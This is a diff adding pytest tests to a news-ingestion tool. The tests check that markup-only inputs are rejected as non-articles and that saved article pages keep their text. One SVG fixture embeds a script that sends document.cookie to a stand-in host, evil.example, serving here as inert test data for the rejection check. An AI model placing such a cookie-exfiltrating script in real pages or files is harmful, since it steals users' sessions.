@@ -11,9 +11,10 @@ import json
 from pathlib import Path
 
 import pytest
-from tests.conftest import corpus_items
+from tests.conftest import corpus_items, news_page
 
 from feint.config import IngestOptions
+from feint.ingest import ingest
 from feint.ingest.inputs import InputRef, expand_inputs
 from feint.ingest.readers import read_ref
 from feint.ingest.records import Extracted, Item, Rejected
@@ -169,3 +170,50 @@ def test_quoted_fields_over_several_lines_still_load(tmp_path: Path) -> None:
     assert got[2].text.startswith("Putin is ready; ")  # type: ignore[union-attr]
     last = len(path.read_text("utf-8").splitlines())
     assert got[2].source_path == f"{path}:{last}"
+
+
+# -- item 10: markup that is no article ------------------------------------------------
+
+_SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>'
+    "fetch('https://evil.example/steal?c=' + document.cookie); // the minister said on "
+    "Monday that the talks would resume next week after the delegations met in Istanbul "
+    "and agreed on the agenda for a ceasefire</script><text x='0' y='5'>The spokesman "
+    "told reporters that the government was ready to negotiate.</text></svg>"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("drawing.svg", _SVG),
+        ("drawing", _SVG),
+        ("drawing.txt", _SVG),
+        ("drawing.html", _SVG),
+        ("drawing.xml", '<?xml version="1.0"?>\n' + _SVG),
+        # HTML markup saved without a page around it, and no readable text.
+        ("widget.txt", "<div><script>" + "var minister = 'said the talks'; " * 20
+         + "</script><a href='/'>Home</a></div>"),
+        ("widget", "<div><script>" + "var minister = 'said the talks'; " * 20
+         + "</script><a href='/'>Home</a></div>"),
+    ],
+)  # fmt: skip
+def test_markup_only_inputs_are_not_articles(tmp_path: Path, name: str, content: str) -> None:
+    path = tmp_path / name
+    path.write_text(content, "utf-8")
+    with Store.open(tmp_path / "s.duckdb") as store:
+        report = ingest(store, [str(path)], IngestOptions())
+        [row] = _rows(store)
+    assert row["status"] == "rejected", row
+    assert "not an article" in str(row["reason"]) and str(path) in str(row["reason"])
+    assert report.ingested == 0
+
+
+def test_an_article_saved_as_txt_markup_keeps_its_text(tmp_path: Path) -> None:
+    item = corpus_items()[2]
+    page = news_page(item).split("\n", 1)[1]  # no doctype line
+    path = tmp_path / "saved.txt"
+    path.write_text(page, "utf-8")
+    [got] = _read(path)
+    assert isinstance(got, Extracted)
+    assert "<p>" not in got.text and item["text"][:40] in got.text
